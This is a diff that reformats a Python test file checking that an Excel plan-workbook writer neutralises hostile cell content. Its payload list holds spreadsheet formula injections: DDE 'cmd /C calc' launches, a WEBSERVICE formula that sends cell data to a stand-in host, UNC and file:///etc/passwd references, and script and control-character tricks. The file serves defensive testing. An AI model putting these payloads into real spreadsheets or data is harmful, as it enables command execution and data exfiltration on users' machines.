@@ -16,19 +16,63 @@ from planner.reports.excel.plan_workbook import SHEETS, write_plan_workbook
 from planner.workbook.rows import Inputs, Row
 
 PAYLOADS = (
-    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+9)*cmd|'/C'!A0",
-    "=1+1", "+1", "-2", "@SUM(A1)", '=HYPERLINK("https://evil.example","click")',
-    '=WEBSERVICE("https://evil.example/?"&A1)', "=IMPORTXML(CONCAT(\"https://evil.example/\"),\"//a\")",
-    '=DDE("cmd";"/C calc";"x")', "{=1+1}", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1",
-    "https://evil.example/x", "http://evil.example", "ftp://evil.example/x",
-    "mailto:a@evil.example", "file:///etc/passwd", "internal:'Summary'!A1", "external:c:\\x.xlsx",
-    "[evil.xlsx]Sheet1!A1", "=Costs!$C$4", "Costs!$C$4", "\\\\evil.example\\share\\x",
-    "<script>alert(1)</script>", "</f><f>1+1</f>", "]]><f>1</f>", "&quot;&amp;&#61;1+1",
-    "&A &P &N &D &T &F &G &Z", "&L&\"Arial\"&99x", "\x00=1+1", "\x1b[31m\u202ered", "\ufffe\ud800",
-    "_x003D_1+1", "\uff1d1+1", "x" * 40_000, "{first}{0}#", "%s%n",
-)  # fmt: skip
-FUNCTIONS = {"SUM", "SUBTOTAL", "SUMIFS", "COUNTIFS", "SUMPRODUCT", "EXACT", "ROUND", "ROUNDUP",
-             "ROUNDDOWN", "AND", "ISNUMBER"}  # fmt: skip
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|'/C'!A0",
+    "=1+1",
+    "+1",
+    "-2",
+    "@SUM(A1)",
+    '=HYPERLINK("https://evil.example","click")',
+    '=WEBSERVICE("https://evil.example/?"&A1)',
+    '=IMPORTXML(CONCAT("https://evil.example/"),"//a")',
+    '=DDE("cmd";"/C calc";"x")',
+    "{=1+1}",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "'=1+1",
+    "https://evil.example/x",
+    "http://evil.example",
+    "ftp://evil.example/x",
+    "mailto:a@evil.example",
+    "file:///etc/passwd",
+    "internal:'Summary'!A1",
+    "external:c:\\x.xlsx",
+    "[evil.xlsx]Sheet1!A1",
+    "=Costs!$C$4",
+    "Costs!$C$4",
+    "\\\\evil.example\\share\\x",
+    "<script>alert(1)</script>",
+    "</f><f>1+1</f>",
+    "]]><f>1</f>",
+    "&quot;&amp;&#61;1+1",
+    "&A &P &N &D &T &F &G &Z",
+    '&L&"Arial"&99x',
+    "\x00=1+1",
+    "\x1b[31m\u202ered",
+    "\ufffe\ud800",
+    "_x003D_1+1",
+    "\uff1d1+1",
+    "x" * 40_000,
+    "{first}{0}#",
+    "%s%n",
+)
+FUNCTIONS = {
+    "SUM",
+    "SUBTOTAL",
+    "SUMIFS",
+    "COUNTIFS",
+    "SUMPRODUCT",
+    "EXACT",
+    "ROUND",
+    "ROUNDUP",
+    "ROUNDDOWN",
+    "AND",
+    "ISNUMBER",
+}
 """Functions of the workbook's own formulas; none of them reaches outside."""
 
 
@@ -41,33 +85,52 @@ def hostile_plan(payload):
     plan = sample_plan()
     spare = {"firm", "basis", "term", "late", "already_late"}
     tables = {
-        name: [{key: payload if type(value) is str and key not in spare else value
-                for key, value in row.items()} for row in rows]
+        name: [
+            {
+                key: payload if type(value) is str and key not in spare else value
+                for key, value in row.items()
+            }
+            for row in rows
+        ]
         for name, rows in plan.tables.items()
-    }  # fmt: skip
+    }
     summary = {key: _poisoned(value, payload) for key, value in plan.summary.items()}
     manifest = {payload: payload, **_poisoned(plan.manifest, payload)}
-    findings = {kind: _poisoned_finding(finding, payload)
-                for kind, finding in plan.findings.items()}  # fmt: skip
-    return dataclasses.replace(plan, name=payload, tables=tables, summary=summary,
-                               manifest=manifest, inputs=_inputs(plan.inputs, payload),
-                               findings=findings)  # fmt: skip
+    findings = {
+        kind: _poisoned_finding(finding, payload) for kind, finding in plan.findings.items()
+    }
+    return dataclasses.replace(
+        plan,
+        name=payload,
+        tables=tables,
+        summary=summary,
+        manifest=manifest,
+        inputs=_inputs(plan.inputs, payload),
+        findings=findings,
+    )
 
 
 def _poisoned_finding(finding, payload):
     """A finding with a payload in every text, but for the cells, by which rows find each other."""
     tables = {
-        name: [{key: payload if type(value) is str and key != "cell" else value
-                for key, value in row.items()} for row in rows]
+        name: [
+            {
+                key: payload if type(value) is str and key != "cell" else value
+                for key, value in row.items()
+            }
+            for row in rows
+        ]
         for name, rows in finding.tables.items()
-    }  # fmt: skip
+    }
     return dataclasses.replace(finding, tables=tables, facts=_poisoned(finding.facts, payload))
 
 
 def _poisoned(value, payload):
     if isinstance(value, dict):
-        return {payload if key in ("CS-3", "NVL72") else key: _poisoned(inner, payload)
-                for key, inner in value.items()}  # fmt: skip
+        return {
+            payload if key in ("CS-3", "NVL72") else key: _poisoned(inner, payload)
+            for key, inner in value.items()
+        }
     if isinstance(value, list):
         return [_poisoned(inner, payload) for inner in value]
     return payload if isinstance(value, str) and not re.match(r"\d{4}-", value) else value
@@ -77,13 +140,20 @@ def _inputs(inputs: Inputs, payload) -> Inputs:
     spare = {"basis", "class", "period", "setting"}
     tables = {
         name: tuple(
-            Row(row.sheet, {k: payload if type(v) is str and k not in spare else v
-                            for k, v in row.values.items()} | {"source": payload},
-                row.cells, row.blank)
+            Row(
+                row.sheet,
+                {
+                    k: payload if type(v) is str and k not in spare else v
+                    for k, v in row.values.items()
+                }
+                | {"source": payload},
+                row.cells,
+                row.blank,
+            )
             for row in rows
         )
         for name, rows in inputs.tables.items()
-    }  # fmt: skip
+    }
     return dataclasses.replace(inputs, name=payload, tables=tables)
 
 
@@ -102,8 +172,12 @@ def local(element):
 def formulas(path):
     """Every formula and reference of the file: of cells, conditions, charts and names."""
     kinds = ("f", "formula", "formula1", "formula2", "definedName")
-    return [(name, local(element), element.text) for name, root in parts(path)
-            for element in root.iter() if local(element) in kinds]  # fmt: skip
+    return [
+        (name, local(element), element.text)
+        for name, root in parts(path)
+        for element in root.iter()
+        if local(element) in kinds
+    ]
 
 
 @pytest.fixture(scope="module")
@@ -151,8 +225,17 @@ def test_the_payload_is_there_to_be_read(tmp_path):
     path = tmp_path / "p.xlsx"
     write_plan_workbook(hostile_plan(PAYLOADS[0]), path)
     book = openpyxl.load_workbook(path)
-    for name in ("Summary", "Purchase orders", "Ramp", "Sites", "Power", "Stock", "Assumptions",
-                 "Manifest", "Megawatt ledger"):  # fmt: skip
+    for name in (
+        "Summary",
+        "Purchase orders",
+        "Ramp",
+        "Sites",
+        "Power",
+        "Stock",
+        "Assumptions",
+        "Manifest",
+        "Megawatt ledger",
+    ):
         cells = [c for row in book[name].iter_rows() for c in row if PAYLOADS[0] in str(c.value)]
         assert {cell.data_type for cell in cells} == ({"s"} if cells else set())
         assert cells or name == "Stock", name
